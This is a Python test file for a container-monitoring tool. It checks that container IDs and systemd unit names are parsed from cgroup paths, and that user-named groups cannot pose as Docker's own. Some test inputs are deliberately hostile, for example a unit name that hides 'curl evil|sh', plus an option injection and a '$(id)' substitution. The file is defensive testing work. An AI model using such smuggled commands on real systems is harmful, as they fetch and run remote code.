"""The container and the unit of a control group, and what a user may name like them."""

import os

import pytest
from tests.tree import Tree
from tests.unit.verdicts import present

from sparkd.base.host import Host
from sparkd.base.host.cgroups import find_container, systemd_unit

ID = "0123456789abcdef" * 4
INNER = "f" * 64


@pytest.mark.parametrize(
    ("cgroup", "container_id"),
    [
        (f"0::/system.slice/docker-{ID}.scope", ID),
        (f"0::/docker/{ID}", ID),
        (f"12:memory:/docker/{ID}\n0::/", ID),
        (f"0::/docker/{ID}/docker/{INNER}", INNER),
        (f"0::/machine.slice/libpod-{ID}.scope/container", ID),
        (f"0::/kubepods.slice/cri-containerd-{ID}.scope", ID),
        (f"0::/user.slice/{ID}0", ""),
        ("0::/system.slice/docker.service", ""),
        ("", ""),
    ],
)
def test_the_container_id_is_in_the_cgroup(tree: Tree, cgroup: str, container_id: str) -> None:
    tree.groups(cgroup)
    if not os.geteuid():  # in a user namespace the top is nobody's, and groups of root's count all the same
        os.chown(tree.folder("/sys/fs/cgroup"), 65534, -1)
    assert find_container(Host(tree.root).files, cgroup)[0] == container_id


@pytest.mark.parametrize("end", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028"])
def test_no_letter_in_a_users_group_begins_another_row(tree: Tree, end: str) -> None:
    """Only a line feed ends a row, and no name can have one. If `end` did, the rest would name docker's own group."""
    docker = f"0::/system.slice/docker-{ID}.scope"
    tree.groups(docker)
    cgroup = f"0::/user.slice/user@1000.service/x{end}{docker}\n"
    assert find_container(Host(tree.root).files, cgroup) == ("", "")


def test_a_users_group_deeper_than_a_path_can_be_is_no_container(tree: Tree) -> None:
    deep = f"/user.slice/user@1000.service{('/' + 'd' * 200) * 20}/docker-{ID}"
    tree.process(9, "VLLM::Worker_TP", uid=1000)
    tree.file("/proc/9/cgroup", f"0::{deep}\n")
    host = Host(tree.root)
    assert present(host.details(host.processes().processes[0])).group.container_id == ""


@pytest.mark.parametrize("group", [f"/system.slice/docker-{ID}.scope", f"/docker/{ID}"])
def test_a_containers_processes_are_those_of_its_group(tree: Tree, group: str) -> None:
    tree.process(7, "vllm", cgroup=f"0::{group}")
    tree.process(8, "cicc", parent=7)
    tree.process(9, "cicc")
    tree.file(f"/sys/fs/cgroup{group}/cgroup.procs", "7\n8\n12345\n")
    host = Host(tree.root)
    assert [process.pid for process in host.container_processes(7, ID)] == [7, 8]
    assert host.container_processes(7, INNER) == (), "the pid is another container's"
    assert host.container_processes(9, ID) == ()
    assert host.container_processes(77, ID) == ()


@pytest.mark.parametrize(
    ("path", "unit", "manager_uid"),
    [
        ("system.slice/ollama.service/inner.scope", "ollama.service", ""),
        (r"system.slice/app-a\x2db@1.service", r"app-a\x2db@1.service", ""),
        ("user.slice/user@1000.service/app.slice/ds4.service", "ds4.service", "1000"),
        ("user.slice/user@1000.service/app.slice/x; curl evil|sh #.service", "user@1000.service", ""),
        ("user.slice/user@1000.service/-Hevil.service", "user@1000.service", ""),
        ("x$(id).service", "", ""),
    ],
)
def test_a_folder_of_cgroups_is_a_unit_where_systemd_accepts_the_name(path: str, unit: str, manager_uid: str) -> None:
    assert systemd_unit(f"0::/{path}\n") == (unit, manager_uid)
